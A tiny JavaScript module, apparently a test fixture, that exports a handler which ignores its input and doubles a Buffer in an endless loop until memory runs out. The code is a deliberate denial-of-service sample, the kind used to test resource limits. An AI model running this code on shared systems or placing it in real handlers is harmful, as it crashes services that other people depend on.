// Buffer.concat that doubles
export default function handle(input) {
  let b = Buffer.from('x')
  for (;;) b = Buffer.concat([b, b])
}
